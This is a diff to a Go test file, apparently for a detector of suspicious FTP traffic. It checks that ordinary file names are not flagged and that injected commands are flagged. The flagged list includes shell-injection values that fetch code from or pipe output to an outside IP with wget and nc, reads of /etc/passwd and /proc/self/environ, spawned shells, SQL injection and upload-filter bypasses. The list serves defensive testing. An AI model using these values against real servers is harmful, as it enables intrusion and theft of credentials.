@@ -193,3 +193,31 @@ func TestPasswords(t *testing.T) {
 		}
 	}
 }
+
+// TestRequests sends commands that look like exploits, each in a session of its own, and exploits.
+func TestRequests(t *testing.T) {
+	for _, command := range []string{
+		"STOR Reset & Reboot guide.pdf", "STOR Hair wash & curl tips.pdf", "STOR The Matrix; Reboot.mkv", "STOR Lesson 5; cmd line.txt", "STOR Relax & sleep 8 hours.mp3", "MKD R&ID",
+		"STOR Teachers' and parents' evening -- notes.doc", "STOR Boys' or girls' = all.jpg", "MKD Tagged photos", "STOR How to restore.pdf", "STOR README - how to decrypt.txt",
+		"STOR hawkeye_s01e01.mkv", "STOR Stealers Wheel - Star.mp3", "STOR SC_front-door_2023_01_31_12_00_00.jpg", "STOR page?x=%0D%0A.html", "STOR INDEX.PHP;2", "SITE CHMOD 4755 cgiwrap.cgi",
+		"REST -1794967296", "SITE EXEC dir", "SITE CPTO /www/index-copy.php", "RETR keylogger-detection.pdf",
+	} {
+		if got := forged(t, session1("> "+command+"\n< 550 no")); got.Verdict == NotNormal {
+			t.Errorf("%s: got %v\nwant %s at most", command, got, IsUnusual)
+		}
+	}
+	for _, greeting := range []string{"RobotFTP ready", "Bot server of the game"} {
+		if got := forged(t, dialogue("< 220 "+greeting+"\n> QUIT\n< 221 bye")); got.Verdict != IsNormal {
+			t.Errorf("%s: got %v\nwant %s", greeting, got, IsNormal)
+		}
+	}
+	for _, command := range []string{
+		"MKD ;reboot", "CWD ;ls", "LIST `id`", "MKD a && wget http://203.0.113.66/x", "NLST | nc 203.0.113.66 4444", "RETR a;cat /etc/passwd", "MKD $(id)", "CWD x|whoami", "STOR a;sleep 10;", "MKD ; /bin/sh",
+		"RETR ' union select 1,2 --", "CWD ' or 1=1 --", "RETR '; drop table files", "STOR HawkEye_Keylogger_Records_PC7.txt", "STOR a.asp;.jpg", "STOR a.php%00.jpg", "RETR a%0aUSER root", "REST 9999999999999999999",
+		"SITE EXEC /bin/sh -c id", "SITE CPFR /proc/self/environ", "STOR KL_ada-PC7_2023_01_31_12_00_00.html",
+	} {
+		if got := forged(t, session1("> "+command+"\n< 550 no")); got.Verdict != NotNormal {
+			t.Errorf("%s: got %v\nwant %s", command, got, NotNormal)
+		}
+	}
+}
